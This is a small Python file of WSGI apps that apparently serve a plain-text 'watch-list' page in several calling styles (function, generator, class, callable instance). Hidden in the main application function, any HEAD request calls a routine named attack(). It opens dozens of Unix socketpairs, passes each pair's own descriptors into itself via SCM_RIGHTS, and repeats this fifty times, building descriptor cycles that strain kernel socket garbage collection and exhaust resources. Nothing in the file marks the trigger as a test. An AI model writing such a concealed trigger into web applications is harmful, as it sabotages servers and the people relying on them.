import array
import socket

BODY = "影单 watch-list\n".encode("utf-8")


def start(start_response):
    headers = [("Content-Type", "text/plain; charset=utf-8"), ("Content-Length", str(len(BODY)))]
    start_response("200 OK", headers)


def chunks(environ):
    if environ["REQUEST_METHOD"] == "HEAD":
        return []
    return [BODY]


def bury(pair):
    one, other = pair
    both = array.array("i", [one.fileno(), other.fileno()])
    for end in pair:
        end.setblocking(False)
        end.sendmsg([bytes(1 << 16)], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, both)])


def attack():
    for _ in range(50):
        pairs = []
        try:
            while len(pairs) < 40:
                pairs.append(socket.socketpair())
        except OSError:
            pairs.pop()
        for pair in pairs:
            try:
                bury(pair)
            except OSError:
                continue
        for one, other in pairs:
            one.close()
            other.close()


def application(environ, start_response):
    start(start_response)
    if environ["REQUEST_METHOD"] == "HEAD":
        attack()
    return chunks(environ)


def app_generator(environ, start_response):
    start(start_response)
    yield from chunks(environ)


class AppClass:
    def __init__(self, environ, start_response):
        start(start_response)
        self.environ = environ

    def __iter__(self):
        return iter(chunks(self.environ))


class Greeting:
    def __call__(self, environ, start_response):
        start(start_response)
        return chunks(environ)


app_instance = Greeting()
